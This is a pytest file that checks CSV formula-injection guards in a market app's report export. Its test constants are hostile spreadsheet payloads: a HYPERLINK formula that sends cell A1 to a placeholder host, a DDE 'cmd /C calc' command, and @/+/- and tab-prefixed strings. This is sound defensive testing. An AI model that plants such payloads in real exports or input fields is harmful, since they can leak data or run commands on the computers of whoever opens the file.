"""CSV formula injection: a name or reason that a spreadsheet would run as a formula is written as text."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from strawberry.relay import to_base64

from src.models.markets import Stall
from src.models.orders import OrderItem
from src.models.reports import ExportStatus, ReportExport
from src.services import orders as orders_service
from src.services.common import dates
from src.services.common.spreadsheet import FORMULA_STARTS, CsvDocument, safe_cell
from src.settings import Settings
from src.storage import build_storage
from tests.factories import token_for
from tests.support.graphql import GraphQLClient
from tests.support.world import make_world

EXPORT = """mutation($m: ID, $from: Date!, $to: Date!) {
  exportMarketReport(input: {marketId: $m, from: $from, to: $to}) { reportExport { id } errors { code } } }"""

HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"klik")'
AT_SUM = "@SUM(1+1)"
CALC = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, AT_SUM, CALC, "-2+3", "\tx", "\rx"]
SRC = Path(__file__).resolve().parents[2] / "src"


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_cell_that_would_be_a_formula_is_text() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for starter in FORMULA_STARTS:
        assert safe_cell(f"{starter}1") == f"'{starter}1"
    # Text that merely contains a formula character is left alone, and so is everything ordinary.
    for text in ("Cabai rawit", "Bu Sri = pelanggan", "PSR-20261127-0042", "2.1", "", "'=already quoted"):
        assert safe_cell(text) == text
    # Numbers we computed stay numbers, negative ones too: a difference of -500 must still sum.
    assert safe_cell(-500) == -500 and safe_cell(Decimal("-0.25")) == Decimal("-0.25") and safe_cell(0) == 0
    assert safe_cell("-500") == "'-500"  # the same characters as text come from outside: guarded
    assert safe_cell(None) == ""
    with pytest.raises(TypeError):
        safe_cell(1.5)  # type: ignore[arg-type]


def test_the_document_guards_every_cell_headers_included() -> None:
    document = CsvDocument(["Nama", "=Kolom"])
    document.add([HYPERLINK, -500])
    document.add([CALC, Decimal("2.5")])
    data = document.to_bytes()
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
    assert _read(data) == [["Nama", "'=Kolom"], ["'" + HYPERLINK, "-500"], ["'" + CALC, "2.5"]]
    assert document.rows == 2


def test_no_csv_is_written_outside_the_guarded_writer() -> None:
    """Every export, present and future, goes through src/services/common/spreadsheet.py: nothing else imports csv."""
    writers = []
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "services" / "common" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            names = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(name == "csv" or name.startswith("csv.") for name in names):
                writers.append(str(path.relative_to(SRC.parent)))
    assert writers == []


async def test_hostile_names_and_reasons_come_out_of_the_real_export_as_text(
    clean_db: None, settings: Settings, gql: GraphQLClient, run_jobs: Any
) -> None:
    world = await make_world(settings, couriers=1)
    # Names and reasons reach the export from many places (and from rows older than any input rule), so
    # they are set straight in the tables: the export must defuse whatever it finds.
    await Stall.filter(id=world.stall.id).update(name=AT_SUM, stall_number="-12")
    await Stall.filter(id=world.second_stall.id).update(name="\rx")
    cancelled = await world.order(quantity="1", ready=False)
    await orders_service.cancel_order(actor=world.buyer, order_id=cancelled.id, reason=CALC)
    other = await world.order(quantity="1", ready=False)
    await orders_service.cancel_order(actor=world.buyer, order_id=other.id, reason="batal")
    await type(other).filter(id=other.id).update(cancel_reason="-2+3")
    live = await world.order(quantity="2", ready=False)
    await OrderItem.filter(stall_order__order_id=live.id, product_id=world.product.id).update(product_name=HYPERLINK)
    await OrderItem.filter(stall_order__order_id=live.id, product_id=world.second_product.id).update(product_name="\tx")

    gql.token = token_for(world.admin, settings)
    today = dates.today().isoformat()
    asked = await gql(EXPORT, {"m": to_base64("Market", world.market.id), "from": today, "to": today})
    assert asked["exportMarketReport"]["errors"] == []
    assert (await run_jobs()).jobs_failed == 0
    export = await ReportExport.get()
    assert export.status == ExportStatus.READY and export.row_count == 6 and export.storage_key
    stored = await build_storage(settings).get(export.storage_key)
    rows = _read(stored.data)
    header, lines = rows[0], rows[1:]
    assert len(lines) == 6
    column = {name: header.index(name) for name in ("Lapak", "Nomor Lapak", "Produk", "Alasan Batal")}
    column["Harga Satuan (Rp)"] = header.index("Harga Satuan (Rp)")

    # Every cell of every line is inert in a spreadsheet; none lost its text.
    for line in lines:
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), (cell, line)
    assert {line[column["Lapak"]] for line in lines} == {"'" + AT_SUM, "'\rx"}
    assert {line[column["Nomor Lapak"]] for line in lines if line[column["Lapak"]] == "'" + AT_SUM} == {"'-12"}
    assert {line[column["Produk"]] for line in lines} == {"Cabai rawit", "Beras", "'" + HYPERLINK, "'\tx"}
    assert {line[column["Alasan Batal"]] for line in lines} == {"'" + CALC, "'-2+3", ""}
    # Our own numbers are still numbers.
    assert {line[column["Harga Satuan (Rp)"]] for line in lines} == {"60000", "13000"}
